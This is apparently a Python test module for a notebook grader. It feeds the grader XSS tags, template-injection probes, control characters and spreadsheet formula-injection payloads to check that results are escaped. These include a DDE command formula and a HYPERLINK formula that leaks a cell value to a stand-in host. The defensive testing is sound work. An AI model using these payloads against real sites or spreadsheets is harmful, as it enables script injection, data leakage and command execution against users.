# ruff: noqa: E501 (the attacks are programs in themselves, and are easier to read unbroken)
"""Attacks on whoever reads the results: tags, scripts, formulas and control characters in all that is shown."""

from nbformat import v4

from .scene import hand_in, perfect, play

#: Each would act where it is not escaped; the word between tells the test where it came from.
TAGS = (
    "<script>alert('mlm')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://mlm.invalid/pixel.png'>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import url(http://mlm.invalid/a.css); body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://mlm.invalid'>",
    "<base href=http://mlm.invalid/><link rel=stylesheet href=http://mlm.invalid/a.css>",
    "<form action=http://mlm.invalid><input name=a autofocus onfocus=alert(1)></form>",
    "</textarea></title></script></pre></code></style><script>alert(3)</script>",
    "\"' onmouseover='alert(1)' style='background:url(http://mlm.invalid)",
    "<!--<script>-->", "]]><script>", "&lt;script&gt;", "{{ 7 * 7 }}", "{% raw %}", "${7*7}", "<%= 7 * 7 %>",
    "$\\href{javascript:alert(1)}{x}$", "![x](http://mlm.invalid/x.png)", "[x](javascript:alert(1))",
    "`<script>`", "\\u003cscript\\u003e", "%3Cscript%3E", "\x1b[31m\x1b]8;;http://mlm.invalid\x07", "\u202eevil\u2066",
)  # fmt: skip
FORMULAS = (
    '=HYPERLINK("http://mlm.invalid?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    '"\n=1+1\n"',
)
ANSWERS = f"""
import numpy as np, pandas as pd
texts = {(*TAGS, *FORMULAS)!r}
for text in texts:
    for name in ("n-batches", "within"):
        ex.check(name, text)
    ex.check("effects", {{text: 1.0}})
    ex.check("effects", pd.Series([text] * 6, index=list("ABCDEF")))
    ex.check("weight", lambda n, ratio, text=text: text)
    ex.check("weight", type(text, (), {{}})())
    ex.check(text, 5)
ex.write("essay", "\\n".join(texts))
"""
RAISED = """
texts = {!r}
def weight(n, ratio):
    raise type(texts[0], (Exception,), {{}})(" ".join(texts))
ex.check("weight", weight)
raise type(texts[0] + texts[-2], (Exception,), {{}})(" ".join(texts))
"""
FORMULA_ESSAY = """
ex.write("essay", {!r})
ex.check("within", {!r})
raise ValueError({!r})
"""


def _with_outputs():
    """Outputs that were saved in the file, as a browser of notebooks would show them."""
    notebook = perfect()
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                v4.new_output(
                    "display_data", {"text/html": "".join(TAGS), "application/javascript": "alert(1)"}
                ),
                v4.new_output("stream", text="✓ within: Right. 99 points.\n" + TAGS[0]),
                v4.new_output("error", ename=TAGS[0], evalue=TAGS[1], traceback=list(TAGS)),
            ]
        cell.metadata["name"] = TAGS[0]
    notebook.cells.append(v4.new_markdown_cell("".join(TAGS)))
    return notebook


SHOWN = f"""
from IPython.display import HTML, Javascript, Markdown, display
for text in {TAGS!r}:
    display(HTML(text), Markdown(text))
    print(text)
display(Javascript("alert(1)"))
"""

ATTACKS = [
    play("tags-in-answers", "HTML and JavaScript", ANSWERS, where="last"),
    play("tags-in-errors", "HTML and JavaScript", RAISED.format(TAGS), where="last"),
    play("tags-in-errors-first", "HTML and JavaScript", RAISED.format(TAGS[1:3]), where="after"),
    play("tags-displayed", "HTML and JavaScript", SHOWN, where="last"),
    hand_in("tags-in-outputs", "HTML and JavaScript", _with_outputs(), deserved=5),
    *[
        play(f"formula-{n}", "formulas in answers", FORMULA_ESSAY.format(text, text, text), where="last")
        for n, text in enumerate(FORMULAS[:4], 1)
    ],
]
